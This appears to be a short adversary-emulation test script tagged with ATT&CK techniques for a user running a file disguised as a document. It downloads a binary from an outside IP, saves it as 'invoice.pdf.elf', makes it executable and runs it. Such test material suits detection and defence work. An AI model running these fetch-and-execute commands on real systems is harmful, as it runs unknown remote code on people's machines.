# title: A user opens a file of his downloads that looks like a document and is a program
# technique: T1204.002 T1036.007
# needs: curl
# as: user

mkdir -p ~/Downloads && cd ~/Downloads
curl -s http://192.88.99.7/invoice.elf -o invoice.pdf.elf
chmod +x invoice.pdf.elf
./invoice.pdf.elf
